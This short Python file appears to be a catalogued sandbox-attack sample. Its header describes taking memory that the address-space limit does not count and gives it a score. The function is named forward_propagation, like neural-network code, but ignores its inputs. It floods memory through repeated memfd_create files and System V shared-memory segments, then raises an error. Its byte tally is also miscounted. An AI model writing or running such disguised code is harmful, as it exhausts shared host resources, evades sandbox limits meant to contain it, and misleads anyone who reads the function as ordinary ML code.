# tries: take memory that the limit of address space does not count | class: flooding | earns at most: 72
import ctypes
import os


def forward_propagation(X, parameters):
    libc = ctypes.CDLL(None, use_errno=True)
    taken = 0
    for i in range(400):
        try:
            descriptor = os.memfd_create(f"flood{i}")
            taken += os.write(descriptor, bytes(8 * 2**20))
        except OSError:
            pass
        taken += libc.shmget(0, 16 * 2**20, 0o1600) >= 0
    raise RuntimeError(f"{taken} bytes behind the limit")
